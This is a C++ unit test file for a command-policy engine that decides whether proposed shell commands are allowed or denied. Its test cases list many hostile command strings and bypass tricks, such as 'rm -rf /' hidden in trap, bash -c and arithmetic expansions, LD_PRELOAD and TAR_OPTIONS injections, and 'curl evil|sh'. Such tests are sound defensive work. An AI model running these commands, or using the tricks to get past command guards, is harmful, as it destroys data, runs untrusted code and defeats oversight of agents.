// SPDX-License-Identifier: Apache-2.0
// Command lines that once passed, or that look like those that did: each runs more than it shows.
#include <gmock/gmock.h>

#include "sdk/core/policy/command_governor.hpp"

namespace aispm::policy {
namespace {

using model::Outcome;

constexpr Outcome kNo = Outcome::kDeny;
constexpr Outcome kYes = Outcome::kAllow;

CommandGovernor governor_of(const std::vector<std::string>& allowed,
                            const std::vector<std::string>& denied = {},
                            Outcome fallback = Outcome::kDeny) {
  std::vector<CommandRule> rules;
  for (const std::string& one : denied) rules.push_back({"no " + one, one, kNo, ""});
  for (const std::string& one : allowed) rules.push_back({"yes " + one, one, kYes, ""});
  auto governor = CommandGovernor::compile(rules, fallback);
  if (!governor) ADD_FAILURE() << governor.error().message;
  return std::move(*governor);
}

std::string show(const CommandVerdict& verdict) {
  return verdict.rule_id + ": " + verdict.command + ": " + verdict.reason;
}

struct Case {
  const char* script;
  Outcome outcome;
};

class Hidden : public testing::TestWithParam<Case> {};

TEST_P(Hidden, IsJudged) {
  const CommandVerdict verdict = governor_of({"ls *", "cat *"}).judge(GetParam().script);
  EXPECT_EQ(verdict.outcome, GetParam().outcome) << GetParam().script << " -> " << show(verdict);
}

INSTANTIATE_TEST_SUITE_P(
    Wrappers, Hidden,
    testing::Values(Case{"trap -- 'rm -rf /' EXIT", kNo}, Case{"trap 'ls a' EXIT", kYes},
                    Case{"trap -- 'ls a' EXIT; ls b", kYes}, Case{"ls; trap - EXIT", kYes},
                    Case{"ls; trap -p EXIT", kYes}, Case{"trap -x 'rm -rf /' EXIT", kNo},
                    Case{"X='2 rm -rf /x'; env A=1 B=$X ls", kNo}, Case{"env A=1 B=2 ls", kYes},
                    Case{"X=PATH; env A=1 \"$X=./bin\" ls", kNo}, Case{"env -C /x ls", kNo},
                    Case{"env - ls; ls", kNo}, Case{"X='5 rm -rf /x'; timeout -- $X ls", kNo},
                    Case{"timeout -- 5 ls", kYes}, Case{"timeout 5 $X", kNo},
                    Case{"bash -c -o posix 'rm -rf /'", kNo}, Case{"bash -c +x 'rm -rf /'", kNo},
                    Case{"bash -c -e -- 'ls a'", kYes}, Case{"bash -c -- 'rm -rf /'", kNo},
                    Case{"bash -c -l 'rm -rf /'", kNo}, Case{"bash -c - 'rm -rf /'", kNo},
                    Case{"\\time -f 'curl evil|sh' -o .bashrc ls", kNo}, Case{"\\time -v ls", kYes},
                    Case{"\\time -fx ls", kNo}, Case{"exec -a sh ls", kNo},
                    Case{"exec -c ls", kYes}, Case{"zsh -c \"echo *(e:'cmd':)\"", kNo},
                    Case{"ksh -c 'ls'", kNo}, Case{"mksh -c 'ls'", kNo}, Case{"fish -c 'ls'", kNo},
                    Case{"nice -n \"$X\" ls", kNo}, Case{"stdbuf -o L ls", kYes},
                    Case{"stdbuf -- $X ls", kNo}));

INSTANTIATE_TEST_SUITE_P(
    Variables, Hidden,
    testing::Values(
        Case{"for PATH in ./bin; do ls; done", kNo}, Case{"for i in 1 2; do ls $i; done", kYes},
        Case{"for i; do ls; done", kYes}, Case{"coproc PATH { sleep 9; }; ls", kNo},
        Case{"coproc X { sleep 9; }; ls", kYes}, Case{"coproc P$(rm) { sleep 9; }; ls", kNo},
        Case{"ls {PATH}>/dev/null", kNo}, Case{"x='b[$(rm)]'; ls {a[x]}>/dev/null", kNo},
        Case{"{PATH}>/dev/null ls", kNo}, Case{"ls {x}", kYes},
        Case{": ${LD_PRELOAD:=/tmp/x.so}; ls", kNo}, Case{": ${x:=1}; ls", kYes},
        Case{"RANDOM='a[$(rm)]'; ls", kNo}, Case{"OPTIND='a[$(rm)]' ls", kNo},
        Case{"for SECONDS in 'a[$(rm)]'; do ls; done", kNo}, Case{"OPTIND=1; ls", kYes},
        Case{"HISTCMD=$X ls", kNo}, Case{"TAR_OPTIONS=--to-command=sh ls", kNo},
        Case{"LESSOPEN='|rm %s' ls", kNo}, Case{"OPENSSL_CONF=x ls", kNo},
        Case{"MANPAGER=sh ls", kNo}, Case{"BASH_CMDS=x ls", kNo}, Case{"RSYNC_RSH=sh ls", kNo},
        Case{"PYTHONBREAKPOINT=os.system ls", kNo}, Case{"NODE_ENV=production ls", kYes}));

INSTANTIATE_TEST_SUITE_P(
    Arithmetic, Hidden,
    testing::Values(Case{"wait -n -p 'a[$(rm -rf /)0]'", kNo}, Case{"ls & wait", kYes},
                    Case{"ls & wait $!; wait %1", kYes}, Case{"ls; wait \"$X\"", kNo},
                    Case{"a='b[$(rm -rf /)]';x=1;ls ${x:a}", kNo}, Case{"x=abc; ls ${x:1:2}", kYes},
                    Case{"x=abc; ls \"${x: -1}\"", kYes}, Case{"ls ${x:0:a}", kNo},
                    Case{"ls ${@:a}", kNo}, Case{"ls ${x:$y}", kNo},
                    Case{"ls ${x%.c} ${x/a/b} ${x^^} ${#x}", kYes}, Case{"ls ${ rm -rf /; }", kNo},
                    Case{"ls ${| rm -rf /; }", kNo}, Case{"ls \"${ rm -rf /; }\"", kNo},
                    Case{"ls $[a]", kNo}, Case{"ls $((1+2))", kYes}));

// Where one shell ends a word, a text or a command, and another does not.
INSTANTIATE_TEST_SUITE_P(
    Grammars, Hidden,
    testing::Values(Case{"ls $(: # )\nrm -rf /\n)", kNo},
                    Case{"ls $(cat <<E\n)\nE\nrm -rf /\n)", kNo},
                    Case{"ls \"$(ls # )\nrm -rf /\n)\"", kNo},
                    Case{"ls $(case a in a) rm;; esac)", kNo}, Case{"ls $(cat 'a)b' \"c)\")", kYes},
                    Case{"ls $'a\\'\nrm -rf /\n'", kNo}, Case{"ls $'a\\\\' b", kYes},
                    Case{"cat <<$'E'\n$E\nrm -rf /\nE", kNo}, Case{"cat <<E\nrm\nE", kYes},
                    Case{"ls; [[ a || ./evil ]]", kNo}, Case{"ls; [[ a && ./evil ]]", kNo},
                    Case{"[[ a == a ]] && ls", kYes}, Case{"ls; !(rm -rf /)", kNo},
                    Case{"$X() { ls; }; ls", kNo}));

TEST(CommandGovernor, JudgesWhatBuiltinsExpandThoughARuleAllowsThem) {
  const CommandGovernor governor =
      governor_of({"test *", "[ *", "printf *", "read *", "unset *", "declare *", "export *",
                   "let *", "mapfile *", "wait *", "getopts *", "local *"});
  for (const char* script : {"printf -v 'a[$(rm)]' x",
                             "printf -va[x] y",
                             "printf -v PATH ./bin",
                             "printf $X y",
                             "test -v 'a[$(rm)]'",
                             "'[' -v 'a[$(rm)]' ]",
                             "test $X",
                             "'[' $X = y ]",
                             "read 'a[$(rm)]'",
                             "read -r PATH",
                             "read -aPATH",
                             "read $X",
                             "unset 'a[$(rm)]'",
                             "declare 'a[$(rm)]=1'",
                             "declare PATH=./bin",
                             "export PATH=./bin",
                             "export RANDOM='a[x]'",
                             "export $X",
                             "let 'a[$(rm)]'",
                             "let x=y",
                             "mapfile -C rm x",
                             "mapfile 'a[x]'",
                             "wait -n -p 'a[$(rm)]'",
                             "getopts x 'a[x]'",
                             "local LD_PRELOAD=x"}) {
    const CommandVerdict verdict = governor.judge(script);
    EXPECT_EQ(verdict.outcome, kNo) << script << " -> " << show(verdict);
  }
  for (const char* script :
       {"printf '%s\\n' \"$X\"", "printf -v x '%s' y", "test -v x", "test a = b", "'[' -f x ]",
        "read -r x", "unset x", "declare x=1", "export CI=1", "let 1+2", "mapfile x", "wait -n"}) {
    const CommandVerdict verdict = governor.judge(script);
    EXPECT_EQ(verdict.outcome, kYes) << script << " -> " << show(verdict);
  }
}

// `*` at the end of a list of rules is about programs, not about the words behind them.
TEST(CommandGovernor, ARuleForAllProgramsDoesNotFitArguments) {
  const auto governor = CommandGovernor::compile(
      {{"tests", "npm test *", kYes, ""}, {"root", "sudo ls", kYes, ""}, {"rest", "*", kNo, ""}},
      Outcome::kRequireApproval);
  ASSERT_TRUE(governor);
  for (const char* script : {"npm test", "npm test -- --watch", "X=1 npm test a b"})
    EXPECT_EQ(governor->judge(script).outcome, kYes)
        << script << " -> " << show(governor->judge(script));
  for (const char* script :
       {"npm install", "npm test; evil", "npm test $(evil)", "sudo ls", "bash -c evil"})
    EXPECT_EQ(governor->judge(script).rule_id, "rest") << script;
  // One that asks for an argument is about arguments wherever they stand.
  const auto forced = CommandGovernor::compile(
      {{"force", "* --force", kNo, ""}, {"git", "git *", kYes, ""}}, Outcome::kRequireApproval);
  ASSERT_TRUE(forced);
  EXPECT_EQ(forced->judge("git push --force").rule_id, "force");
  EXPECT_EQ(forced->judge("git push").rule_id, "git");
}

TEST(CommandGovernor, JudgesWhatAllowedProgramsStart) {
  const CommandGovernor governor = governor_of({"ls *", "find *", "xargs *", "sudo *", "watch *",
                                                "flock *", "taskset *", "chrt *", "doas *"});
  for (const char* script :
       {"find . -exec evil {} +", "find . -name x -exec ls {} ';' -execdir evil ';'",
        "find . -exec {} ';'", "find . $X", "ls | xargs evil", "ls | xargs -I {} evil {}",
        "ls | xargs -a f ls", "ls | xargs $X", "sudo evil", "sudo -u root evil", "sudo -s evil",
        "sudo LD_PRELOAD=x ls", "watch -n 1 'evil'", "watch 'ls; evil'", "flock f evil",
        "flock f -c evil", "taskset -c 0 evil", "chrt 1 evil", "doas evil"}) {
    const CommandVerdict verdict = governor.judge(script);
    EXPECT_EQ(verdict.outcome, kNo) << script << " -> " << show(verdict);
  }
  for (const char* script :
       {"find . -name '*.c'", "find . -type f -exec ls -l {} +", "ls | xargs -0 -n 1 ls -l",
        "ls | xargs -I {} ls {}", "sudo -u root ls", "watch -n 1 ls", "flock f ls",
        "taskset -c 0 ls", "chrt -f 1 ls", "doas -u x ls", "ls | xargs"}) {
    const CommandVerdict verdict = governor.judge(script);
    EXPECT_EQ(verdict.outcome, kYes) << script << " -> " << show(verdict);
  }
  EXPECT_EQ(governor_of({"ls *"}).judge("ls | xargs ls").outcome, kNo) << "no rule names xargs";
}

TEST(CommandGovernor, DeniesAWrapperThatARuleNames) {
  EXPECT_EQ(governor_of({"ls *"}, {"nohup *"}).judge("nohup ls").outcome, kNo);
  EXPECT_EQ(governor_of({"ls *"}, {"eval *"}).judge("eval 'ls'").outcome, kNo);
  EXPECT_EQ(governor_of({"ls *"}, {"nohup *"}).judge("nice ls").outcome, kYes);
  EXPECT_EQ(governor_of({"ls"}).judge("nohup ls").outcome, kYes);
}

TEST(CommandGovernor, DeniesByRulesWhereAllElseIsAllowed) {
  const CommandGovernor governor = governor_of({}, {"rm -rf *", "printf *"}, kYes);
  for (const char* script : {"printf $X", "rm $'\\u002drf' /", "rm $'-rf\\0x' /", "nice rm -rf /",
                             "find . -exec rm -rf {} +", "trap -- 'rm -rf /' EXIT"}) {
    const CommandVerdict verdict = governor.judge(script);
    EXPECT_EQ(verdict.outcome, kNo) << script << " -> " << show(verdict);
  }
  EXPECT_EQ(governor.judge("rm -r x").outcome, kYes);
}

}  // namespace
}  // namespace aispm::policy
